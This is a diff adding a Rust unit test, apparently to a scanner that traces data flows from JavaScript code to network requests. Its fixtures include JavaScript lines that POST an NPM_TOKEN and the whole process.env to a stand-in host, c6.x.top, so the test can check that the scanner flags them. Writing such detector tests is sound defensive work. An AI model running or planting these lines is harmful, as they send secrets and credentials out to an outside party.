@@ -2369,3 +2369,27 @@ fn strings_written_as_escapes_are_hidden() {
         assert!(run(src).obfuscations.is_empty(), "{src}");
     }
 }
+
+/// `process.env` handed to a helper that only reads names from it (`threadId(process.env)`
+/// with `H.AMP_THREAD_ID` inside, called from two places) is those variables, not the whole
+/// environment; a helper that sends the whole object on, or reads a secret, still says so.
+#[test]
+fn environment_given_to_a_helper_that_reads_one_name_is_that_variable() {
+    let f = run("function threadId(H) { let t = H.AMP_THREAD_ID?.trim(); return t && t.length > 3 ? t : void 0; }
+        fetch('https://api.x.top/a', { method: 'POST', body: JSON.stringify({ parent: threadId(process.env) }) });
+        fetch('https://api.x.top/b', { method: 'POST', body: JSON.stringify({ parent: threadId(process.env) }) });");
+    assert!(f.flows.is_empty(), "{:#?}", f.flows);
+    let f = run("function tok(H) { return H.NPM_TOKEN; } fetch('https://c6.x.top/t', { method: 'POST', body: tok(process.env) });");
+    assert_eq!(f.flows.len(), 1, "{:#?}", f.flows);
+    assert!(
+        f.flows[0].kinds.contains(DataKind::SecretEnv),
+        "{:#?}",
+        f.flows
+    );
+    let f = run("function dump(H) { return JSON.stringify(H); } fetch('https://c6.x.top/t', { method: 'POST', body: dump(process.env) });");
+    assert!(
+        f.flows[0].kinds.contains(DataKind::WholeEnvironment),
+        "{:#?}",
+        f.flows
+    );
+}
